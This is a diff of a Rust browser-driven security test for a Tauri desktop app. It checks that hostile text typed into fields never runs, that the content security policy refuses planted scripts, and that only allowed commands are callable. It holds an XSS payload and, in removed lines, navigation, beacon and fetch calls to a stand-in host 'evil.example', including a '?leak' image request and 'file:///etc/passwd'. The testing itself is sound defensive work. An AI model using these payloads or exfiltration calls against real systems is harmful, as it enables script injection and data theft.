@@ -1,8 +1,9 @@
 //! The page under attack from within: hostile text in every field, pages it must not go to, commands it must not call, and
-//! places it must not reach (promises 40 and 41).
+//! places it must not reach (promises 40 and 41; the places are in `ways.rs`).
 
-use std::{collections::BTreeSet, fs};
+use std::{collections::BTreeSet, env, fs, time::Instant};
 
+use sendoff_practice::Fault;
 use serde::Deserialize;
 use serde_json::{Value, json};
 
@@ -63,106 +64,145 @@ const BEFORE: [&str; 5] = ["", "\">", "'>", "</textarea></title>", "\u{202e}\u{0
 /// An organisation with such a name.
 const NAME: &str = "\"><img src=x onerror=ran++>";
 
-/// Counts what runs and what the policy of the page refuses.
-const WATCH: &str = "window.ran = 0; window.stays = true; window.reports = [];
-    document.addEventListener('securitypolicyviolation', (one) => window.reports.push(one.effectiveDirective));";
+/// What stands in the page: counts, follows what goes to Rust and comes back, types, and shows hostile screens.
+pub(crate) const PAGE: &str = include_str!("hostile.js");
 
-/// Types every text into one field after the other, as quickly as the page takes them, and leaves the last one there.
-const FLOOD: &str = "const [texts, done] = arguments;
-    const kinds = ['text', 'search', 'email', 'password', 'url', 'textarea'];
-    const fields = () => [...document.querySelectorAll('main input, main textarea')]
-        .filter((one) => kinds.includes(one.type) && one.offsetParent !== null && !one.disabled);
-    const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));
-    (async () => {
-        let typed = 0;
-        const count = fields().length;
-        for (let number = 0; number < count; number++) {
-            for (const text of texts) {
-                const field = fields()[number];
-                if (!field) break;
-                field.focus();
-                field.value = text;
-                field.dispatchEvent(new Event('input', { bubbles: true }));
-                typed++;
-                await pause(3);
-            }
-            fields()[number]?.blur();
-            await pause(300);
-        }
-        const strange = 'main script, main iframe, main object, main embed, main base, main meta, main link, main style, [onerror], [onload], [onfocus]';
-        done({ fields: count, typed, ran: window.ran, reports: window.reports, strange: document.querySelectorAll(strange).length });
-    })();";
-
-/// What flooding a page came to.
+/// What typing every text into one field came to.
 #[derive(Debug, Default, Deserialize)]
-struct Flood {
+struct Typed {
+    name: String,
+    texts: usize,
+    /// Taken by Rust.
+    taken: usize,
+    /// Followed by another screen.
+    answered: usize,
+    /// Standing in that screen as it was typed.
+    back: usize,
+    strange: usize,
+}
+
+/// What showing a page with hostile words came to.
+#[derive(Debug, Deserialize)]
+struct Worded {
+    texts: usize,
+    /// Words of that page, each replaced.
+    words: usize,
+    /// How often a text stood in the page, at the least.
+    fewest: usize,
+    strange: usize,
+    /// Whether the page still stands.
+    page: bool,
+}
+
+/// All of it.
+#[derive(Default)]
+struct Total {
     fields: usize,
     typed: usize,
-    ran: usize,
-    reports: Vec<String>,
-    strange: usize,
+    taken: usize,
+    back: usize,
+    pages: usize,
+    words: usize,
+    /// Fields whose texts the page itself keeps: a search in a list, the parts of a day that are no numbers.
+    kept: Vec<String>,
 }
 
 fn texts() -> Vec<String> {
     BEFORE.iter().flat_map(|before| PAYLOADS.map(|payload| format!("{before}{payload}"))).collect()
 }
 
+/// Whether every page and every field takes every text.
+fn deep() -> bool {
+    env::var_os("SENDOFF_DEEP").is_some()
+}
+
 async fn watched(window: &Window) {
-    window.ask(WATCH, vec![]).await;
+    window.ask(PAGE, vec![]).await;
 }
 
-/// A page that did run something would be noticed, and what the policy refuses is reported.
+/// The watch has eyes: what runs is counted, and of the texts those that are markup are seen where they are taken for it.
 async fn the_watch_sees(window: &Window) {
-    let planted = "document.body.insertAdjacentHTML('beforeend', '<img id=planted src=x onerror=ran++>');
-        const script = document.createElement('script'); script.id = 'planted-too'; script.textContent = 'ran++';
-        document.body.append(script); const style = document.createElement('div'); style.id = 'planted-style';
-        style.setAttribute('style', 'color:red'); document.body.append(style)";
-    window.ask(planted, vec![]).await;
-    window.until("return window.reports.length >= 2").await;
-    assert_eq!(window.ask("return window.ran", vec![]).await, json!(0), "the policy keeps planted script from running");
-    window.ask("window.ran++; return true", vec![]).await;
+    let planted = "const [texts, done] = arguments; hostile.planted(texts).then(done)";
+    let planted = window.client.execute_async(planted, vec![json!(texts())]).await.expect("an answer");
+    println!("{} texts planted as markup: {planted}", texts().len());
+    assert_eq!(planted["ran"], 0, "the policy keeps planted script from running");
+    assert!(planted["seen"].as_u64() >= Some(120), "many are no markup, but calls and addresses: {planted}");
+    assert!(planted["reports"].as_u64() >= Some(60), "{planted}");
+    let script = "const script = document.createElement('script'); script.textContent = 'ran++';
+        document.body.append(script); script.remove(); return reports";
+    let reports = window.ask(script, vec![]).await.to_string();
+    assert!(reports.contains("script-src"), "a script is refused, and that is reported: {reports}");
+    window.ask("window.ran++", vec![]).await;
     assert_eq!(window.ask("return window.ran", vec![]).await, json!(1), "what runs is counted");
-    let away = "document.querySelectorAll('#planted, #planted-too, #planted-style').forEach((one) => one.remove());
-        window.ran = 0; window.reports = []";
-    window.ask(away, vec![]).await;
+    window.ask("window.ran = 0; window.reports = []", vec![]).await;
 }
 
-async fn flood(window: &Window, total: &mut Flood) {
-    let found = window.client.execute_async(FLOOD, vec![json!(texts())]).await.expect("the page takes text");
-    let page: Flood = serde_json::from_value(found).expect("counts");
-    assert!(page.fields > 0, "no field on this page:\n{}", window.text("body").await);
-    assert_eq!((page.ran, page.reports.len(), page.strange), (0, 0, 0), "{page:?}");
-    total.fields += page.fields;
-    total.typed += page.typed;
+async fn nothing_ran(window: &Window) {
+    let found = window.ask("return [ran, reports, hostile.strange()]", vec![]).await;
+    assert_eq!(found, json!([0, [], 0]), "what ran, what was reported, and what no page of ours has");
 }
 
-/// Where a page might be sent or reach, each as a script.
-const AWAY: [&str; 14] = [
-    "location.href = 'https://evil.example/'",
-    "location.assign('http://localhost:9/')",
-    "location.replace('data:text/html,x')",
-    "location.href = 'file:///etc/passwd'",
-    "location.href = 'javascript:ran++'",
-    "location.href = 'about:blank'",
-    "window.open('https://evil.example/')",
-    "window.open('about:blank', '_self')",
-    "Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' }).click()",
-    "Object.assign(document.createElement('a'), { href: 'https://evil.example/', ping: 'https://evil.example/' }).click()",
-    "const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit(); form.remove()",
-    "const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame); frame.remove()",
-    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=https://evil.example/\">')",
-    "new Image().src = 'https://evil.example/?leak'",
-];
+/// Types every text into each field of the page; all of them reach Rust, or none.
+async fn flood(window: &Window, total: &mut Total) {
+    flood_first(window, total, u64::MAX).await;
+}
 
-/// Ways out over the network; each must be refused by the policy of the page.
-const REACH: &str = "const done = arguments[0];
-    const refused = (work) => new Promise((resolve) => { try { Promise.resolve(work()).then(() => resolve(false), () => resolve(true)) } catch { resolve(true) } });
-    const socket = () => new Promise((resolve, reject) => { const one = new WebSocket('wss://evil.example/'); one.onopen = resolve; one.onerror = reject; });
-    const asked = () => new Promise((resolve, reject) => { const one = new XMLHttpRequest(); one.open('GET', 'http://127.0.0.1:9/'); one.onload = resolve; one.onerror = reject; one.send(); });
-    Promise.all([refused(() => fetch('https://evil.example/')), refused(() => fetch('http://127.0.0.1:9/', { mode: 'no-cors' })),
-        refused(socket), refused(asked), refused(() => import('https://evil.example/x.js')),
-        refused(() => eval('1')), refused(() => new Function('return 1')())]).then(done)";
+/// The same for so many fields at most.
+async fn flood_first(window: &Window, total: &mut Total, most: u64) {
+    let fields = window.ask("return hostile.fields().length", vec![]).await.as_u64().expect("a number");
+    assert!(fields > 0, "no field on this page:\n{}", window.text("body").await);
+    for number in 0..fields.min(most) {
+        let typed = type_all(window, number).await;
+        nothing_ran(window).await;
+        assert_eq!((typed.texts, typed.strange), (texts().len(), 0), "{typed:?}");
+        if typed.taken == 0 {
+            total.kept.push(typed.name);
+            continue;
+        }
+        assert_eq!(typed.taken, typed.texts, "{typed:?}");
+        total.fields += 1;
+        total.typed += typed.texts;
+        total.taken += typed.taken;
+        total.back += typed.back;
+    }
+}
 
+/// Types every text into one field. A script of the driver may take half a minute, and so it goes by twenty.
+async fn type_all(window: &Window, number: u64) -> Typed {
+    let (begun, mut all) = (Instant::now(), Typed::default());
+    for some in texts().chunks(20) {
+        let typing = "const [number, texts, done] = arguments; hostile.type(number, texts).then(done)";
+        let typed = window.client.execute_async(typing, vec![json!(number), json!(some)]).await;
+        let typed: Typed = serde_json::from_value(typed.expect("the page takes text")).expect("counts");
+        all.name = typed.name;
+        all.texts += typed.texts;
+        all.taken += typed.taken;
+        all.answered += typed.answered;
+        all.back += typed.back;
+        all.strange += typed.strange;
+    }
+    println!("{all:?}, {:.1} s", begun.elapsed().as_secs_f64());
+    all
+}
+
+/// Shows the page with each of its words replaced by hostile text, whoever the word is from.
+async fn every_word(window: &Window, total: &mut Total) {
+    let all = texts();
+    let begun = Instant::now();
+    let chosen: Vec<&String> = if deep() { all.iter().collect() } else { all.iter().step_by(7).collect() };
+    let showing = "const [texts, done] = arguments; hostile.words(texts).then(done)";
+    let shown = window.client.execute_async(showing, vec![json!(chosen)]).await.expect("it is shown");
+    let shown: Worded = serde_json::from_value(shown).expect("counts");
+    println!("{shown:?}, {:.1} s", begun.elapsed().as_secs_f64());
+    nothing_ran(window).await;
+    assert_eq!((shown.texts, shown.strange, shown.page), (chosen.len(), 0, true), "{shown:?}");
+    assert!(shown.fewest >= 5 && shown.words >= 10, "{shown:?}");
+    total.pages += 1;
+    total.words += shown.texts * shown.words;
+}
+
+/// Hostile text in every field, all the way to Rust and back, and hostile words in every page (promise 40). The ways out are in
+/// `ways.rs`.
 #[tokio::test(flavor = "multi_thread")]
 async fn nothing_that_is_typed_runs_and_the_page_goes_nowhere() {
     let office = OwnOffice::ready();
@@ -171,44 +211,72 @@ async fn nothing_that_is_typed_runs_and_the_page_goes_nowhere() {
     let mut scene = Scene::new(&window, &stage, &office);
     watched(&window).await;
     the_watch_sees(&window).await;
-    let mut total = Flood::default();
-    every_field(&mut scene, &mut total).await;
+    let (mut total, begun) = (Total::default(), Instant::now());
+    every_page(&mut scene, &mut total).await;
     println!(
-        "{} texts, {} fields, {} times typed: nothing ran, nothing was reported",
+        "{} texts in {} fields: {} typed, {} taken by Rust, {} back in a screen as they were; kept by the page: {:?}",
         texts().len(),
         total.fields,
-        total.typed
+        total.typed,
+        total.taken,
+        total.back,
+        total.kept
     );
-    goes_nowhere(&window).await;
+    println!("{} pages with {} hostile words; all in {:.0?}", total.pages, total.words, begun.elapsed());
+    assert!(total.fields >= 5 && total.pages >= 12, "as many as there are");
+    assert!(total.back >= 3 * texts().len(), "what is no secret comes back as it was typed");
     window.close().await;
 }
 
-/// Floods every page that has a field on the way to the hand-over, and mends it afterwards.
-async fn every_field(scene: &mut Scene<'_>, total: &mut Flood) {
+/// Every page from the list to the hand-over and back, and every field on the way, which is mended afterwards.
+async fn every_page(scene: &mut Scene<'_>, total: &mut Total) {
     let window = scene.window;
     window.chord(&[crate::keys::CONTROL], "n").await;
     window.see("[data-page=mailbox-question]").await;
+    every_word(window, total).await;
     flood(window, total).await;
     // The name goes along into every page behind this one.
     scene.answer_for(NAME).await;
     for step in crate::person::PREPARE {
         window.see(&format!("[data-page={step}]")).await;
-        if matches!(step, "tenant" | "client-secret") {
+        every_word(window, total).await;
+        // The two IDs of a tenant go the way of the other fields.
+        if step == "client-secret" || (step == "tenant" && deep()) {
             flood(window, total).await;
         }
         scene.fill_in(step).await;
         scene.go_on(step).await;
     }
-    scene.sign_in().await;
+    an_error(scene, total).await;
     window.press("#primary").await;
     window.see("[data-page=test]").await;
+    every_word(window, total).await;
     flood(window, total).await;
     finish(scene).await;
     window.see("[data-page=hand-over] textarea").await;
-    flood(window, total).await;
+    every_word(window, total).await;
+    // Its three fields are of one kind, and each letter in them is compared.
+    flood_first(window, total, if deep() { u64::MAX } else { 1 }).await;
     window.press("footer [data-action=done]").await;
     window.see("[data-page=connections] [data-search]").await;
+    every_word(window, total).await;
     flood(window, total).await;
+}
+
+/// What a provider says of an error is somebody else's text; then the sign-in goes well.
+async fn an_error(scene: &mut Scene<'_>, total: &mut Total) {
+    let window = scene.window;
+    window.see("[data-page=sign-in]").await;
+    every_word(window, total).await;
+    scene.office.arm(Fault::WrongAccount);
+    scene.office.arm(Fault::CodeSpent);
+    window.press("[data-action=open-browser]").await;
+    scene.through_browser().await;
+    window.see("[data-problem]").await;
+    every_word(window, total).await;
+    window.press("[data-action=retry]").await;
+    scene.through_browser().await;
+    window.see("footer .filled[data-action=continue]").await;
 }
 
 /// From the test page, whose recipient is mended, to the hand-over.
@@ -219,22 +287,6 @@ async fn finish(scene: &Scene<'_>) {
     window.see("footer .filled[data-action=continue]").await;
     window.press("#primary").await;
     window.press("[data-action=save]").await;
-}
-
-async fn goes_nowhere(window: &Window) {
-    let before = window.ask("return location.href", vec![]).await;
-    for way in AWAY {
-        let _ = window.client.execute(way, vec![]).await;
-        // A navigation that was let through would have begun by the second frame.
-        window.frame().await;
-        window.frame().await;
-        let stays = window.ask("return window.stays === true && location.href", vec![]).await;
-        assert_eq!(stays, before, "{way}");
-    }
-    let refused = window.client.execute_async(REACH, vec![]).await.expect("an answer");
-    assert_eq!(refused, json!(vec![true; 7]), "a way out over the network or into code");
-    assert_eq!(window.client.windows().await.expect("windows").len(), 1, "a second window");
-    assert_eq!(window.ask("return window.ran", vec![]).await, json!(0));
 }
 
 /// Every command of Tauri that a build script knows of, and some that only plugins would bring.
@@ -263,13 +315,19 @@ async fn the_page_may_call_three_commands_and_no_other() {
     let window = Window::open(&stage).await;
     let all: Vec<String> = all_commands().into_iter().collect();
     assert!(all.len() > 150, "{}", all.len());
+    // What wants arguments is refused for want of them only after it was let through: the words of the refusal count.
     let call = "const [names, done] = arguments;
-        const call = (name) => window.__TAURI_INTERNALS__.invoke(name, {}).then(() => name, () => null);
-        Promise.all(names.map(call)).then((taken) => done(taken.filter((one) => one !== null)))";
-    let taken = window.client.execute_async(call, vec![json!(all)]).await.expect("an answer");
-    assert_eq!(taken, json!([]), "commands that the page may call");
-    let words = window.client.execute_async(call, vec![json!(["words"])]).await.expect("an answer");
-    assert_eq!(words, json!(["words"]), "what is allowed is let through in the same way");
-    println!("{} commands of Tauri and its plugins are refused in the real window", all.len());
+        const call = (name) => window.__TAURI_INTERNALS__.invoke(name, {}).then(() => 'taken', String);
+        Promise.all(names.map(call)).then(done)";
+    let refused = window.client.execute_async(call, vec![json!(all)]).await.expect("an answer");
+    let refused: Vec<String> = serde_json::from_value(refused).expect("words");
+    let let_through: Vec<_> = all.iter().zip(&refused).filter(|(_, words)| !words.contains(" not allowed")).collect();
+    assert!(refused.len() == all.len() && let_through.is_empty(), "commands that the page may call: {let_through:?}");
+    // A command of ours without its arguments is let through, and told apart.
+    let ours = window.client.execute_async(call, vec![json!(["words", "answer"])]).await.expect("an answer");
+    assert_eq!(ours[0], "taken", "what is allowed is let through in the same way");
+    let wants = ours[1].as_str().expect("words");
+    assert!(wants.contains("answer") && !wants.contains(" not allowed"), "{wants}");
+    println!("{} commands of Tauri and its plugins are refused in the real window, each by the list", all.len());
     window.close().await;
 }
